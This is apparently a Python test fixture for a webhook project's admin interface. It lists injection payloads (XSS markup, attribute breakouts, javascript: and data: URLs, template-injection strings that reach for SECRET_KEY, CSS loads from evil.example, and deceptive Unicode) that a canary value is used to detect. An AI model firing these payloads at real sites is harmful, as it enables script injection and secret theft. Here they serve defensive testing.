"""Texts of a stranger who wants to run code in the admin, for any text of any event.

A script that runs sets ``pwned``, an element that gets in is named or classed ``pwned``, and a
template that calculates makes ``PRODUCT``.
"""

from __future__ import annotations

from pickyassist_webhooks.parsing.characters import UNSTORABLE

CANARY = "pwned"
EVIL = "evil.example"
FACTORS, PRODUCT = "1337*7331", str(1337 * 7331)

MARKUP = (
    "<script>pwned=1</script>",
    "<ScRiPt/src=//evil.example/x.js></ScRiPt>",
    "</script><script>pwned=1;alert(1)</script>",
    "<img src=x onerror=pwned=1;alert(1)>",
    "<svg onload=pwned=1><script>pwned=1</script><use href=//evil.example/x.svg#x></svg>",
    "<iframe srcdoc='<script>parent.pwned=1</script>'></iframe>",
    "<iframe src=javascript:parent.pwned=1></iframe><object data=//evil.example/x></object>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--><img src=x onerror=pwned=1>'>",
    "<noscript><p title='</noscript><img src=x onerror=pwned=1>'>",
    "<base href=//evil.example/ class=pwned>",
    "<meta http-equiv=refresh content='9;url=//evil.example/'>",
    "<form action=//evil.example/ id=pwned><button formaction=javascript:pwned=1>Delete</button>",
    "<a href=javascript:pwned=1 id=pwned>Delete</a><a href=//evil.example/ id=pwned>Log out</a>",
    "<details open ontoggle=pwned=1><input autofocus onfocus=pwned=1><video onloadstart=pwned=1>",
    "<pwned-x contenteditable onblur=pwned=1></pwned-x><template><b class=pwned></template>",
)
BREAKOUTS = (
    '" onmouseover="pwned=1" class="pwned',
    "' autofocus onfocus='pwned=1' id='pwned",
    "` onclick=pwned=1 `",
    '"><img src=x onerror=pwned=1>',
    "</pre></td></tr></table></div><b class=pwned>",
    "</title></textarea></select></style></noscript></script><b class=pwned>",
    "-->]]><b class=pwned><!--<![CDATA[",
    "&lt;b class=pwned&gt;&#60;b class=pwned&#62;&quot;&#x27;",
    "%3Cb%20class=pwned%3E\\x3cb class=pwned\\x3e\\u003cb class=pwned\\u003e+ADw-b+AD4-",
)
URLS = (
    "javascript:pwned=1",
    " JaVaScRiPt:pwned=1//%0Aalert(1)",
    "java\tscript:pwned=1",
    "\x01javascript&colon;pwned=1",
    "data:text/html,<script>opener.pwned=1</script>",
    "data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='pwned=1'/>",
    "vbscript:MsgBox(1)",
    "//evil.example/x.png",
    "../../../admin/logout/?next=//evil.example",
)
TEMPLATES = (
    "{{1337*7331}} ${1337*7331} #{1337*7331} <%= 1337*7331 %> [[1337*7331]]",
    "{% include 'admin/base.html' %}{% load static %}{{ settings.SECRET_KEY }}",
    "{{constructor.constructor('pwned=1')()}}{{$on.constructor('pwned=1')()}}",
    "%(name)s %s %d {0} {} {0.__class__.__mro__}",
)
STYLES = (
    "<style>@import '//evil.example/x.css';body{background:url(//evil.example/x.png)}</style>",
    "<link rel=stylesheet href=//evil.example/x.css class=pwned>",
    '" style="position:fixed;inset:0;background:url(//evil.example/x.png)',
    "}*{display:none;background:url(//evil.example/x.png)}/*</style>",
)
CHARACTERS = (
    "invoice\u202egnp.exe \u202a\u202b\u202c\u202d \u2066a\u2067b\u2068c\u2069 \u200e\u200f\u061c",
    "zero\u200bwidth\u2060and\ufeffmarks\u00ad\u180e\u206a\u206f\ufff9annotated\ufffatwice\ufffb",
    "line\u2028separators\u2029and\x85breaks\x0b\x0c\r\n\ttabs",
    "NUL\0and\x1b[31mescapes\x07\x08\x7f\x9b31m",
    "halves\ud800of\udc00surrogates \udfff\ud83d",
    "joined \U0001f468\u200d\U0001f469\u200d\U0001f467 \u0915\u094d\u200d\u0937 e" + "\u0301" * 60,
    "\u05e9\u05dc\u05d5\u05dd <b class=pwned> \u0645\u0631\u062d\u0628\u0627",
    "W" * 5000,
)
GROUPS = (MARKUP, BREAKOUTS, URLS, TEMPLATES, STYLES, CHARACTERS)
TEXTS = tuple(text for group in GROUPS for text in group)


def identifier(text: str) -> str:
    """Return a text as a valid id: without refused characters, and not too long."""
    return UNSTORABLE.sub("", text).strip()[:255].strip()
